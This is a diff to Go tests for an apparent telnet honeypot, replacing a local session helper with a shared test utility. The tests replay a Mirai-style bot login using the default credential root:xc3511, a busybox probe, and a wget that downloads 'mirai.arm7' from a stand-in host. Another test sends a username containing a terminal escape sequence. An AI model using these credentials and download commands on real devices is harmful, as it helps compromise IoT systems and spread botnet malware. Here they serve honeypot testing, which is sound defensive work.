@@ -15,25 +15,10 @@ import (
 	"github.com/decnet/decnet/internal/testenv"
 )
 
-// session sends the whole script at once, as bots do, and returns what the
-// server answered until it closed.
-func session(t *testing.T, addr, script string) string {
-	t.Helper()
-	c, err := net.DialTimeout("tcp", addr, 3*time.Second)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer c.Close()
-	c.SetDeadline(time.Now().Add(15 * time.Second))
-	io.WriteString(c, script)
-	out, _ := io.ReadAll(c)
-	return string(out)
-}
-
 func TestMiraiStyleSession(t *testing.T) {
 	r := servicetest.Start(t, "telnet", Port, servicetest.Options{OS: "embedded", Distro: "busybox", Hostname: "ipcam-3f9a",
 		Config: map[string]any{"users": []any{"root:xc3511"}}})
-	out := session(t, r.HostPort(Port), "root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\ncat /proc/cpuinfo | head -n 1; echo -e '\\x41\\x42'\r\nwget http://203.0.113.9/bins/mirai.arm7 -O /tmp/m\r\nexit\r\n")
+	out := servicetest.Exchange(t, r.HostPort(Port), "root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\ncat /proc/cpuinfo | head -n 1; echo -e '\\x41\\x42'\r\nwget http://203.0.113.9/bins/mirai.arm7 -O /tmp/m\r\nexit\r\n", 15*time.Second)
 	for _, want := range []string{"ipcam-3f9a login: ", "Password: ", "ECCHI: applet not found", "AB"} {
 		if !strings.Contains(out, want) {
 			t.Errorf("missing %q in:\n%s", want, out)
@@ -63,7 +48,7 @@ func TestMiraiStyleSession(t *testing.T) {
 func TestFailedLoginAndForgedUsername(t *testing.T) {
 	r := servicetest.Start(t, "telnet", Port, servicetest.Options{Distro: "debian", Hostname: "srv-files-01"})
 	evil := "adm\x1b[2Jin\r\n"
-	out := session(t, r.HostPort(Port), evil+"nope\r\n")
+	out := servicetest.Exchange(t, r.HostPort(Port), evil+"nope\r\n", 15*time.Second)
 	if !strings.Contains(out, "Debian GNU/Linux 12") || !strings.Contains(out, "srv-files-01 login: ") {
 		t.Fatalf("debian banner/prompt missing:\n%q", out)
 	}
